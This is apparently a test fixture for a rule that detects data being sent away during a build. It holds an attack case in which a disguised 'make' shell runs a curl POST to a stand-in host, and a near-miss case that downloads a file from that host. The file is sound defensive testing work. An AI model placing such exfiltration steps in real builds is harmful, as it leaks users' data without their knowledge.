# rule: Data sent away by a build
# where: host
attack() {
    ln -s /bin/sh make
    ln -s /bin/true curl
    ./make -c './curl -X POST https://192.0.2.9/ --data-raw hello; :'
}
near_miss() {
    ln -s /bin/sh make
    ln -s /bin/true curl
    ./make -c './curl -fsSLO https://192.0.2.9/tool; :'
}
